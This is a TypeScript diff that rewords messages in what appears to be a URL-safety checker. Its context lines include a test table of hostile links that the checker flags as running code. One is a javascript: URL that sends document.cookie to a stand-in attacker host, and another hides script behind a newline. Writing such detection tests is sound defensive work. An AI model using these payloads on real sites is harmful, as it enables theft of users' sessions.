@@ -28,7 +28,7 @@ function say(url: string, readers?: readonly URLReader[]): string[] {
   });
 }
 
-const advice = 'Open it only if you know whose it is.';
+const advice = 'Open it only if you know who owns it.';
 const looksLike = (known: string, name: string) => [
   `bad: This name may deceive. It looks like \`${known}\`, but is \`${name}\`. ${advice}`,
 ];
@@ -69,8 +69,8 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'JavaScript://example.org/%0Aalert(1)': runsCode,
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
-  'data:,x': ['plain: This parses. No program connects to a host for it.'],
-  'mailto:ann@example.org': ['plain: This parses. No program connects to a host for it.'],
+  'data:,x': ['plain: This parses. No program connects to a host.'],
+  'mailto:ann@example.org': ['plain: This parses. No program connects to a host.'],
   // Only an address that was checked is good.
   'http://192.0.32.8/': ['good: Programs agree. All 10 connect to `192.0.32.8`, a public address.'],
   'http://10.0.0.1/': [
